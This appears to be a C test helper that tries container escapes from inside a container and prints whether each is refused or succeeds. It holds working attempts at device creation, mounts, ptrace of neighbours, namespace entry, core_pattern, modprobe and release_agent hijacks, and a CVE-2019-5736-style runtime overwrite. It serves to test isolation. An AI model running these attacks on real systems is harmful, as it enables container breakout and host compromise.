/*
 * Attacks on the walls of a container, from inside of it: `attack KIND [ARGUMENT]...`. For each try there is one line,
 * `refused NAME ERRNO` or `BROKE NAME`. Compiled by the tests and never shipped.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *name, int broke) {
  if (broke) printf("BROKE %s\n", name);
  else printf("refused %s %s\n", name, strerrorname_np(errno));
  fflush(stdout);
}

/* Reading gives something, or what is at the path can be written to. */
static void readable(const char *path) {
  char text[64];
  errno = 0;
  int file = open(path, O_RDONLY | O_NONBLOCK);
  ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
  tell(path, length > 0);
  if (file >= 0) close(file);
}

static void writable(const char *path, const char *text) {
  errno = 0;
  int file = open(path, O_WRONLY);
  ssize_t length = file < 0 ? -1 : write(file, text, strlen(text));
  tell(path, length > 0);
  if (file >= 0) close(file);
}

static void attack_mknod(void) {
  static const struct { const char *name; mode_t mode; int major, minor; } devices[] = {
      {"mem", S_IFCHR, 1, 1},   {"kmsg", S_IFCHR, 1, 11}, {"loop0", S_IFBLK, 7, 0}, {"sda", S_IFBLK, 8, 0},
      {"vda", S_IFBLK, 254, 0}, {"tun", S_IFCHR, 10, 200}, {"fuse", S_IFCHR, 10, 229}};
  for (size_t index = 0; index < sizeof devices / sizeof *devices; index++) {
    char path[64];
    snprintf(path, sizeof path, "/device-%s", devices[index].name);
    int made = mknod(path, devices[index].mode | 0666, makedev(devices[index].major, devices[index].minor)) == 0;
    tell(devices[index].name, made && open(path, O_RDWR | O_NONBLOCK) >= 0);
  }
}

static void attack_mount(void) {
  mkdir("/m", 0755);
  tell("tmpfs", mount("t", "/m", "tmpfs", 0, NULL) == 0);
  tell("proc", mount("p", "/m", "proc", 0, NULL) == 0);
  tell("cgroup", mount("c", "/m", "cgroup", 0, "pids") == 0);
  tell("cgroup2", mount("c", "/m", "cgroup2", 0, NULL) == 0);
  tell("bind", mount("/proc/sys", "/m", NULL, MS_BIND, NULL) == 0);
  tell("remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
  tell("unmask", umount2("/proc/kcore", MNT_DETACH) == 0);
  tell("unmount", umount2("/proc/sys", MNT_DETACH) == 0);
  tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0) >= 0);
  tell("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1) >= 0);
  tell("pivot_root", syscall(SYS_pivot_root, "/m", "/m") == 0);
}

/* The arguments are pids that a neighbour has on the host: here they are nobody's or our own. */
static void attack_neighbour(int count, char **pids) {
  for (int index = 0; index < count; index++) {
    pid_t pid = atoi(pids[index]);
    char buffer[16], path[64];
    struct iovec here = {buffer, sizeof buffer}, there = {(void *)0x400000, sizeof buffer};
    tell("ptrace", ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0);
    tell("seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0);
    tell("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0) > 0);
    tell("pidfd_open", syscall(SYS_pidfd_open, pid, 0) >= 0);
    tell("kill", kill(pid, SIGKILL) == 0);
    snprintf(path, sizeof path, "/proc/%d/root/ticks", pid);
    readable(path);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    readable(path);
  }
}

static void attack_unshare(void) {
  static const struct { const char *name; int flag; } kinds[] = {
      {"user", CLONE_NEWUSER}, {"mnt", CLONE_NEWNS},   {"pid", CLONE_NEWPID}, {"net", CLONE_NEWNET},
      {"uts", CLONE_NEWUTS},   {"ipc", CLONE_NEWIPC}, {"cgroup", CLONE_NEWCGROUP}};
  for (size_t index = 0; index < sizeof kinds / sizeof *kinds; index++) {
    char path[64];
    tell(kinds[index].name, unshare(kinds[index].flag) == 0);
    snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[index].name);
    int file = open(path, O_RDONLY);
    tell(path, file >= 0 && setns(file, kinds[index].flag) == 0);
  }
  unsigned long long arguments[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0};
  long child = syscall(SYS_clone3, arguments, sizeof arguments);
  if (child == 0) _exit(0);
  tell("clone3", child > 0);
}

static void attack_kernel(void) {
  static const char *files[] = {"/proc/kcore", "/proc/kmem", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/keys",
                                "/proc/timer_list", "/proc/sched_debug", "/sys/firmware/acpi/tables/DSDT",
                                "/sys/kernel/security/lsm", "/sys/kernel/debug/sched/features"};
  for (size_t index = 0; index < sizeof files / sizeof *files; index++) readable(files[index]);
  char text[64];
  tell("add_key", syscall(SYS_add_key, "user", "attack", "x", 1, -4) > 0);
  tell("request_key", syscall(SYS_request_key, "user", "neighbour", NULL, 0) > 0);
  for (int keyring = -1; keyring >= -5; keyring--) tell("keyctl", syscall(SYS_keyctl, 10, keyring, "user", "neighbour", 0) > 0);
  tell("keyctl-read", syscall(SYS_keyctl, 11, -4, text, sizeof text) >= 0);
  tell("bpf", syscall(SYS_bpf, 0, text, sizeof text) >= 0);
  tell("syslog", syscall(SYS_syslog, 3, text, sizeof text) > 0);
  tell("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0);
  tell("init_module", syscall(SYS_init_module, text, sizeof text, "") == 0);
  tell("perf_event_open", syscall(SYS_perf_event_open, text, 0, -1, -1, 0) >= 0);
  tell("userfaultfd", syscall(SYS_userfaultfd, 0) >= 0);
  tell("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, text, O_RDONLY) >= 0);
}

static void attack_sysctl(void) {
  writable("/proc/sys/kernel/core_pattern", "|/bin/attack");
  writable("/proc/sys/kernel/modprobe", "/bin/attack");
  writable("/proc/sys/kernel/domainname", "attacked");
  writable("/proc/sys/kernel/hostname", "attacked");
  writable("/proc/sys/vm/drop_caches", "1");
  writable("/proc/sys/fs/binfmt_misc/register", ":a:M::a::/attack:");
  writable("/proc/sysrq-trigger", "h");
  writable("/proc/irq/default_smp_affinity", "1");
  writable("/sys/kernel/uevent_helper", "/bin/attack");
  writable("/sys/power/state", "mem");
  writable("/sys/kernel/mm/transparent_hugepage/enabled", "never");
}

/* Every release_agent, notify_on_release, limit and list of processes below here. */
static void attack_cgroup(const char *directory, int depth) {
  static const char *names[] = {"release_agent", "notify_on_release", "cgroup.procs", "tasks", "memory.limit_in_bytes",
                                "memory.max", "pids.max", "cgroup.subtree_control", "devices.allow"};
  char path[4096];
  for (size_t index = 0; index < sizeof names / sizeof *names; index++) {
    snprintf(path, sizeof path, "%s/%s", directory, names[index]);
    if (access(path, F_OK) == 0) writable(path, "1");
  }
  snprintf(path, sizeof path, "%s/attack", directory);
  tell(path, mkdir(path, 0755) == 0 && strncmp(directory, "/sys", 4) == 0 && access(strcat(path, "/cgroup.procs"), F_OK) == 0);
  DIR *entries = depth > 0 ? opendir(directory) : NULL;
  for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
    if (entry->d_type != DT_DIR || entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
    attack_cgroup(path, depth - 1);
  }
  if (entries != NULL) closedir(entries);
}

/* CVE-2019-5736: holds on to every program that comes by and isn't ours, and writes to it as soon as nobody runs it. */
static void attack_exe(int seconds) {
  char self[4096] = {0}, seen[4096], path[64];
  readlink("/proc/self/exe", self, sizeof self - 1);
  int tried = 0, broke = 0;
  for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
    for (int pid = 1; pid < 400; pid++) {
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      memset(seen, 0, sizeof seen);
      if (pid == getpid() || readlink(path, seen, sizeof seen - 1) < 0) continue;
      if (strcmp(seen, self) == 0 || strcmp(seen, "/bin/busybox") == 0) continue;
      int held = open(path, O_RDONLY);
      if (held < 0) continue;
      tried++;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      for (int attempt = 0; attempt < 2000 && !broke; attempt++) {
        int file = open(path, O_WRONLY | O_TRUNC);
        if (file < 0) continue;
        broke = write(file, "#!/attack\n", 10) == 10;
        close(file);
      }
      close(held);
    }
  }
  printf("held %d\n", tried);
  tell("exe", broke);
}

/* Descriptors that somebody forgot, and what can be reached from the working directory. */
static void attack_descriptors(const char *marker) {
  char path[4096], target[4096];
  for (int descriptor = 3; descriptor < 1024; descriptor++) {
    if (fcntl(descriptor, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
    memset(target, 0, sizeof target);
    readlink(path, target, sizeof target - 1);
    printf("BROKE descriptor %d %s\n", descriptor, target);
  }
  for (int up = 0; up < 12; up++) {
    path[0] = 0;
    for (int level = 0; level < up; level++) strcat(path, "../");
    if (up == 0) strcpy(path, "./");
    strcat(path, marker + 1);
    readable(path);
  }
}

int main(int count, char **values) {
  const char *kind = count > 1 ? values[1] : "";
  if (strcmp(kind, "mknod") == 0) attack_mknod();
  else if (strcmp(kind, "mount") == 0) attack_mount();
  else if (strcmp(kind, "neighbour") == 0) attack_neighbour(count - 2, values + 2);
  else if (strcmp(kind, "unshare") == 0) attack_unshare();
  else if (strcmp(kind, "kernel") == 0) attack_kernel();
  else if (strcmp(kind, "sysctl") == 0) attack_sysctl();
  else if (strcmp(kind, "cgroup") == 0) attack_cgroup("/sys/fs/cgroup", 2);
  else if (strcmp(kind, "exe") == 0) attack_exe(atoi(values[2]));
  else if (strcmp(kind, "descriptors") == 0) attack_descriptors(values[2]);
  else return 2;
  printf("done\n");
  return 0;
}
